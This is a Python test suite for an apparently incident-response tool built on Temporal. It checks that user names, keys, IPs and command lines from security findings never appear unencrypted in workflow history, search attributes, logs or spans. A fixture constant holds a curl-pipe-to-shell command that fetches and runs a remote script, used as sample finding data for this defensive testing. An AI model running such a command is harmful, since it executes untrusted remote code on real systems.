"""What cannot be encrypted holds no identity: search attributes, workflow ids, the history as `temporal
workflow show` prints it (with the codec on), log lines and span attributes carry resource ids and hashes,
never a user name, an access key, an IP address, a user agent or a command line.

And how incidents are listed (the listing half of irflow.visibility, which `irflow list`, `irflow stats` and
every command taking an incident id use): the window, the query, the rows, one incident's run among its
resource's."""

from __future__ import annotations

import asyncio
import base64
import binascii
import contextlib
import gzip
import json
import logging
import subprocess
import uuid
import zlib
from datetime import UTC, datetime, timedelta

import boto3
import pytest
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from temporalio.api.common.v1 import WorkflowExecution
from temporalio.api.query.v1 import WorkflowQuery
from temporalio.api.sdk.v1 import WorkflowMetadata
from temporalio.api.workflowservice.v1 import QueryWorkflowRequest
from temporalio.client import Client
from temporalio.common import SearchAttributePair, TypedSearchAttributes

import irflow.intake.submit as submit_module
from irflow.cli.common import find_incident
from irflow.codec import ENCODING, METADATA_ENCODING
from irflow.devstack.demo import sample_access_key_finding, sample_finding
from irflow.intake.listener import FindingListener
from irflow.intake.router import route
from irflow.models.asff import parse_asff
from irflow.models.finding import parse_guardduty
from irflow.models.incident import IncidentInput, Status, incident_hash
from irflow.models.settings import IrflowSettings
from irflow.visibility import (
    Window,
    find_incident_run,
    identity_hash,
    incident_query,
    incident_rows,
    parse_window,
    quoted,
    redacted,
    shown_resource_id,
)
from tests.irflow.intake.listener_support import _findings_queue, _listen_until, _send
from tests.support import BIN, another_connection, running_worker, wait_for
from workflows import search_attributes as sa
from workflows.incident import IncidentWorkflow

PRINCIPAL_ID = "AIDAEXAMPLEPRINCIPAL1"
REMOTE_IP = "198.51.100.23"
USER_AGENT = "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1 attacker-kit/7.3"
COMMAND_LINE = "/bin/sh -c curl -s http://203.0.113.77/x.sh | sh"


# --- the hash and the shown id ---


def _incident_input(destination, opened_id: str, shown: str | None = None) -> IncidentInput:
    """The workflow's input for a routed finding: as `submit` builds it (`shown`: the router's decision), or
    as inputs written before `shown_resource_id` existed (None)."""
    given = {} if shown is None else {"shown_resource_id": shown}
    finding = parse_guardduty(sample_finding("i-0123456789abcdef0")).finding
    return IncidentInput(
        incident_id=opened_id,
        playbook=destination.playbook,
        finding=finding,
        resource_id=destination.resource_id,
        received_at=datetime(2026, 1, 1, tzinfo=UTC),
        **given,
    )


def test_an_identity_is_shown_as_the_hash_the_router_builds_into_its_incident_key():
    event = sample_access_key_finding("alice.smith", "AKIAEXAMPLEALICE0001")
    destination = route(parse_guardduty(event).finding)
    assert destination.resource_id == "alice.smith" and destination.personal
    assert destination.shown_id == identity_hash("alice.smith") and destination.incident_key.endswith(
        "-" + identity_hash("alice.smith")
    )
    incident_id = destination.incident_key + "-20260101T000000Z"
    for shown in (destination.shown_id, None):  # the router's decision, handed in; an older input's, derived
        assert _incident_input(destination, incident_id, shown).shown_resource_id == identity_hash("alice.smith"), (
            "the workflow agrees"
        )
    instance = route(parse_guardduty(sample_finding("i-0123456789abcdef0")).finding)
    assert not instance.personal and instance.shown_id == "i-0123456789abcdef0"
    for shown in (instance.shown_id, None):
        assert _incident_input(instance, instance.incident_key + "-20260101T000000Z", shown).shown_resource_id == (
            "i-0123456789abcdef0"
        )
    assert shown_resource_id("", personal=True) == ""


def _asff_role_finding(role_arn: str) -> dict:
    """A Security Hub finding about an IAM role, named by its ARN (no user name, key or principal id)."""
    return {
        "SchemaVersion": "2018-10-08",
        "Id": "arn:aws:securityhub:us-east-1:123456789012:finding/decoy-role-1",
        "ProductArn": "arn:aws:securityhub:us-east-1::product/aws/guardduty",
        "GeneratorId": "irflow-test",
        "AwsAccountId": "123456789012",
        "Types": ["Unusual Behaviors"],
        "CreatedAt": "2026-01-05T10:00:00Z",
        "UpdatedAt": "2026-01-05T10:05:00Z",
        "Severity": {"Label": "LOW", "Normalized": 20},
        "Title": "A decoy role was assumed",
        "Description": "A decoy role was assumed.",
        "Resources": [{"Type": "AwsIamRole", "Id": role_arn, "Partition": "aws", "Region": "us-east-1"}],
        "RecordState": "ACTIVE",
        "Workflow": {"Status": "NEW"},
    }


async def test_a_suppressed_role_finding_is_logged_with_the_resource_as_the_router_shows_it(caplog):
    caplog.set_level(logging.INFO, logger="irflow.listener")
    role_arn = "arn:aws:iam::123456789012:role/alice-smith-admin"
    parsed = parse_asff(_asff_role_finding(role_arn))
    settings = IrflowSettings(min_severity="HIGH", task_queue="unused")  # LOW: suppressed, nothing submitted
    listener = FindingListener(None, settings, queue_urls=["unused"], sqs=object())  # type: ignore[arg-type]
    assert await listener._deliver(parsed, datetime.now(UTC), "unused", "unused:1") is None
    [line] = [record.getMessage() for record in caplog.records if record.getMessage().startswith("suppressed ")]
    assert listener.stats.suppressed == 1
    assert "alice-smith-admin" not in line and role_arn not in line, line
    assert route(parsed.finding).shown_id == identity_hash(role_arn), "the router hashes a role's name"
    assert identity_hash(role_arn) in line, "as the incident would show it"


def test_redaction_hashes_every_identity_a_finding_names_and_drops_its_address():
    finding = parse_guardduty(sample_access_key_finding("bob", "AKIAEXAMPLEBOB000001")).finding
    text = redacted(f"Contain bob? key AKIAEXAMPLEBOB000001 of {PRINCIPAL_ID} used from {REMOTE_IP}", finding)
    assert text == (
        f"Contain {identity_hash('bob')}? key {identity_hash('AKIAEXAMPLEBOB000001')} of "
        f"{identity_hash(PRINCIPAL_ID)} used from [remote ip]"
    )
    assert redacted("nothing to hide", finding) == "nothing to hide"


def test_a_user_name_lists_its_incidents_through_its_hash():
    query = incident_query(resource="alice.smith")
    assert f"IrflowResourceId IN ('alice.smith', '{identity_hash('alice.smith')}')" in query


# --- listing incidents: the window, the query, the rows, one incident's run ---

MARCH_1 = datetime(2026, 3, 1, 9, 0, 30, 500, tzinfo=UTC)


def test_a_window_is_seconds_to_weeks_back_from_its_end_or_from_now():
    for text, length in (("45s", timedelta(seconds=45)), ("90m", timedelta(minutes=90)), ("12h", timedelta(hours=12)),
                         ("30d", timedelta(days=30)), ("2w", timedelta(weeks=2))):  # fmt: skip
        assert parse_window(text, end=MARCH_1) == Window(MARCH_1 - length, MARCH_1)
    assert parse_window("1h", end=MARCH_1.replace(tzinfo=None)) == Window(MARCH_1 - timedelta(hours=1), MARCH_1)
    before = datetime.now(UTC)
    start, end = parse_window(" 7d ")
    assert end is None, "up to now: no upper bound asked of the server, whose clock may run ahead of ours"
    assert before - timedelta(days=7) <= start <= datetime.now(UTC) - timedelta(days=7)
    for bad in ("30", "d", "0d", "-1d", "1.5h", "3x", ""):
        with pytest.raises(ValueError, match=r"^--age .*: use a number and s, m, h, d or w \(e\.g\. 30d, 12h, 2w\)$"):
            parse_window(bad, "--age")


def test_one_query_builder_for_listing_and_for_stats():
    base = "WorkflowType = 'IncidentWorkflow'"
    week = Window(MARCH_1 - timedelta(days=7))
    assert incident_query(running=False, closed=week) == (
        f"{base} AND ExecutionStatus != 'Running' AND CloseTime >= '2026-02-22T09:00:30.000500Z'"
    )
    fixed = Window(MARCH_1 - timedelta(days=7), MARCH_1)
    assert incident_query(running=True, opened=fixed) == (
        f"{base} AND ExecutionStatus = 'Running' AND StartTime >= '2026-02-22T09:00:30.000500Z'"
        " AND StartTime <= '2026-03-01T09:00:30.000500Z'"
    )
    listed = incident_query(status="resolved", phase="done", severity="high", finding_type="Recon:EC2/*", opened=week)
    assert listed == (
        f"{base} AND IrflowStatus = 'resolved' AND IrflowPhase = 'done' AND IrflowSeverity = 'HIGH' "
        "AND IrflowFindingType STARTS_WITH 'Recon:EC2/' AND StartTime >= '2026-02-22T09:00:30.000500Z'"
    )
    assert incident_query(finding_type="Recon:EC2/PortProbeUnprotectedPort") == (
        f"{base} AND IrflowFindingType = 'Recon:EC2/PortProbeUnprotectedPort'"
    )
    assert incident_query(status="x' OR WorkflowType != 'y") == (
        f"{base} AND IrflowStatus = 'x\\' OR WorkflowType != \\'y'"
    ), "what a person typed stays one literal"


async def _start_unworked(client: Client, incident_id: str, status: str, resource_id: str) -> str:
    """An IncidentWorkflow run nobody works on, with the memo and search attributes an incident has: its run id."""
    handle = await client.start_workflow(
        "IncidentWorkflow",
        id=incident_id.rsplit("-", 1)[0],
        task_queue=f"nobody-{uuid.uuid4().hex}",
        memo={"incident_id": incident_id},
        search_attributes=TypedSearchAttributes(
            [
                SearchAttributePair(sa.INCIDENT_HASH, incident_hash(incident_id)),
                SearchAttributePair(sa.STATUS, status),
                SearchAttributePair(sa.FINDING_TYPE, "Backdoor:EC2/C&CActivity.B!DNS"),
                SearchAttributePair(sa.RESOURCE_ID, resource_id),
            ]
        ),
    )
    return handle.result_run_id


async def _rows_once_visible(client: Client, query: str, statuses: list[str], timeout: float = 30) -> list:
    """The rows `query` lists, once visibility has caught up with the runs' `statuses` (newest first)."""
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        rows = await incident_rows(client, query)
        if [r.workflow_status for r in rows] == statuses:
            return rows
        assert asyncio.get_running_loop().time() < deadline, rows
        await asyncio.sleep(0.1)


async def test_a_resources_incidents_are_read_as_rows_and_each_found_by_its_incident_id(dev_env):
    client = dev_env.client
    instance = f"i-{uuid.uuid4().hex[:17]}"
    key = f"ec2-123456789012-us-east-1-{instance}"
    earlier, later = f"{key}-20260301T090000Z", f"{key}-20260302T090000Z"
    earlier_run = await _start_unworked(client, earlier, "resolved", instance)
    await client.get_workflow_handle(key, run_id=earlier_run).terminate("the test's first incident is over")
    later_run = await _start_unworked(client, later, "awaiting_decision", instance)
    try:
        query = f"{incident_query()} AND WorkflowId = {quoted(key)}"
        newest, oldest = await _rows_once_visible(client, query, ["RUNNING", "TERMINATED"])
        assert (newest.incident_id, newest.run_id, newest.status) == (later, later_run, "awaiting_decision")
        assert (oldest.incident_id, oldest.run_id, oldest.status) == (earlier, earlier_run, "resolved")
        assert newest.closed is None and oldest.closed is not None and oldest.started <= oldest.closed
        assert (newest.finding_type, newest.resource_id) == ("Backdoor:EC2/C&CActivity.B!DNS", instance)
        assert [r.run_id for r in await incident_rows(client, query, limit=1)] == [later_run]

        # One incident's run among its resource's, by the incident id's hash: what `irflow show <incident id>`
        # resolves an incident id with.
        for incident_id, run_id in ((earlier, earlier_run), (later, later_run)):
            found = await find_incident_run(client, key, incident_id)
            assert found is not None and (found.id, found.run_id) == (key, run_id)
            handle, named = await find_incident(client, incident_id)
            assert (handle.id, handle.run_id, named) == (key, run_id, incident_id)
        assert await find_incident_run(client, key, f"{key}-20260303T090000Z") is None
        assert await find_incident_run(client, f"{key}' OR WorkflowId != '", earlier) is None, "one literal"
        assert await incident_rows(client, incident_query(status="x' OR WorkflowType != 'y")) == []
    finally:
        await client.get_workflow_handle(key, run_id=later_run).terminate("the test is over")


# --- everything, decoded ---


def decoded_text(value) -> str:
    """Every string in `value` (JSON as `temporal` prints it), with every layer opened: base64 that decodes
    to text or gzip, gzip, and JSON inside strings, recursively. Binary that is none of those (ciphertext)
    is left as it was printed."""
    found: list[str] = []

    def text(raw: str, depth: int) -> None:
        found.append(raw)
        if depth > 8:
            return
        stripped = raw.strip()
        if stripped[:1] in ("{", "[", '"'):
            with contextlib.suppress(ValueError):  # not JSON after all: try base64 below
                walk(json.loads(stripped), depth + 1)
                return
        if len(stripped) >= 4:
            try:
                data = base64.b64decode(stripped + "=" * (-len(stripped) % 4), validate=True)
            except (binascii.Error, ValueError):
                return
            opened(data, depth + 1)

    def opened(data: bytes, depth: int) -> None:
        if data[:2] == b"\x1f\x8b":
            try:
                data = gzip.decompress(data)
            except (OSError, EOFError, zlib.error):
                return
        try:
            text(data.decode("utf-8"), depth)
        except UnicodeDecodeError:
            return

    def walk(item, depth: int) -> None:
        if isinstance(item, dict):
            for key, inner in item.items():
                text(str(key), depth)
                walk(inner, depth)
        elif isinstance(item, list):
            for inner in item:
                walk(inner, depth)
        elif isinstance(item, str):
            text(item, depth)
        elif item is not None:
            found.append(str(item))

    walk(value, 0)
    return "\n".join(found)


def test_the_decoder_opens_every_layer():
    inner = base64.b64encode(gzip.compress(json.dumps({"user": "carol"}).encode())).decode()
    outer = base64.b64encode(json.dumps({"data": inner, "n": 1}).encode()).decode()
    assert "carol" in decoded_text({"payloads": [{"data": outer}]})
    assert "carol" not in decoded_text({"data": base64.b64encode(b"\x00\x93carol-ciphertext\xff").decode()[:-8]})


# --- the acceptance test ---


@pytest.fixture
def key_id(aws) -> str:
    return boto3.client("kms", region_name="us-east-1").create_key(Description="irflow payloads")["KeyMetadata"][
        "KeyId"
    ]


def _finding_about(workload) -> dict:
    event = sample_access_key_finding(workload.iam_user, workload.access_key_id, workload.account_id, workload.region)
    detail = event["detail"]
    detail["service"]["additionalInfo"] = {"userAgent": {"fullUserAgent": USER_AGENT, "userAgentCategory": "SDK"}}
    detail["service"]["runtimeDetails"] = {"process": {"name": "sh", "commandLine": COMMAND_LINE}}
    return event


def _temporal(address: str, *args: str) -> dict | list:
    done = subprocess.run(
        [str(BIN / "temporal"), *args, "--address", address, "--namespace", "default", "--output", "json"],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return json.loads(done.stdout)


async def _listed(client: Client, query: str, timeout: float = 30) -> list:
    deadline = asyncio.get_running_loop().time() + timeout
    while asyncio.get_running_loop().time() < deadline:
        found = [w async for w in client.list_workflows(query)]
        if found:
            return found
        await asyncio.sleep(0.2)
    raise AssertionError(f"nothing listed for {query}")


async def test_an_iam_user_incident_leaves_no_identity_where_nothing_is_encrypted(
    dev_env, workload, key_id, caplog, monkeypatch
):
    caplog.set_level(logging.INFO)
    spans = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(spans))
    monkeypatch.setattr(submit_module, "tracer", provider.get_tracer("irflow"))
    secrets = {
        "user name": workload.iam_user,
        "access key id": workload.access_key_id,
        "principal id": PRINCIPAL_ID,
        "remote IP": REMOTE_IP,
        "user agent": USER_AGENT,
        "command line": COMMAND_LINE,
    }
    sqs = boto3.client("sqs", region_name="us-east-1")
    queue = _findings_queue(sqs, sqs.create_queue(QueueName="visibility-dlq")["QueueUrl"], name="visibility")
    plain = dev_env.client
    sealing = await another_connection(plain, key_id)
    async with running_worker(sealing) as settings:
        _send(sqs, queue, [_finding_about(workload)])
        listener = FindingListener(sealing, settings, queue_urls=[queue], wait_seconds=1)
        await _listen_until(listener, lambda: listener.stats.started >= 1)
        # `irflow list --resource <user name>` finds the incident, though only the hash is stored.
        query = f"{incident_query(resource=workload.iam_user)} AND TaskQueue = '{settings.task_queue}'"
        [execution] = await _listed(sealing, query)
        handle = sealing.get_workflow_handle_for(IncidentWorkflow.run, execution.id)
        state = await wait_for(handle, lambda s: s.status == Status.AWAITING_DECISION)
        assert state.resource_id == workload.iam_user, "the sealing client reads the name"
        # User metadata and the UI's current details pass through the codec: sealed for anyone without it.
        description = await plain.get_workflow_handle(handle.id).describe()
        metadata = description.raw_description.execution_config.user_metadata
        assert metadata.summary.metadata[METADATA_ENCODING] == ENCODING
        assert metadata.details.metadata[METADATA_ENCODING] == ENCODING
        assert identity_hash(workload.iam_user) in (await (await handle.describe()).static_summary() or "")
        answer = await plain.workflow_service.query_workflow(
            QueryWorkflowRequest(
                namespace=plain.namespace,
                execution=WorkflowExecution(workflow_id=handle.id),
                query=WorkflowQuery(query_type="__temporal_workflow_metadata"),
            )
        )
        [current] = answer.query_result.payloads
        assert current.metadata[METADATA_ENCODING] == ENCODING
        details = (await handle.query("__temporal_workflow_metadata", result_type=WorkflowMetadata)).current_details
        assert identity_hash(workload.iam_user) in details, details
        await handle.signal("approve", {"by": "alice", "comment": "key used from a known-bad address"})
        final = await handle.result()
    assert final.status == Status.RESOLVED

    address = plain.service_client.config.target_host
    history = decoded_text(await asyncio.to_thread(_temporal, address, "workflow", "show", "-w", handle.id))
    described = decoded_text(await asyncio.to_thread(_temporal, address, "workflow", "describe", "-w", handle.id))
    attributes = (await plain.get_workflow_handle(handle.id).describe()).typed_search_attributes
    assert attributes.get(sa.RESOURCE_ID) == identity_hash(workload.iam_user)
    assert identity_hash(workload.iam_user) in described, "the decoder reads the search attributes"
    assert "IncidentWorkflow" in history and workload.account_id in history, "the decoder reads the history"
    [submitted] = [s for s in spans.get_finished_spans() if s.name == "irflow.submit_finding"]
    span_text = json.dumps(dict(submitted.attributes or {}))
    logs = "\n".join(record.getMessage() for record in caplog.records)
    assert "started" in logs, "the listener's log lines are captured"
    places = {
        "history": history,
        "description": described,
        "search attributes": repr(list(attributes)),
        "workflow id": handle.id,
        "current details": details,
        "span attributes": span_text,
        "log lines": logs,
    }
    leaks = [(place, what) for place, shown in places.items() for what, secret in secrets.items() if secret in shown]
    assert not leaks, leaks
